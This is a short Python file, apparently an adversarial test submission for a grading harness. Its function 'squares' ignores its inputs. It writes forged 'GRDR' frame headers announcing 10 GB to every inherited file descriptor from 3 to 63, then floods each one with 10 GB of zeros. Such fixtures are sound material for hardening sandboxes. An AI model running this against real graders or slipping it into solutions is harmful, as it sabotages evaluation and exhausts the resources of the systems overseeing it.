"""Announces a frame of 10 GB and begins to write it."""

from __future__ import annotations

import contextlib
import os
import struct

BLOCK = bytes(1 << 20)


def squares(square, numbers):
    for descriptor in range(3, 64):
        with contextlib.suppress(OSError):
            os.write(descriptor, struct.pack("<4sIQ", b"GRDR", 20, 10 << 30))
            for _ in range(10 << 10):
                os.write(descriptor, BLOCK)
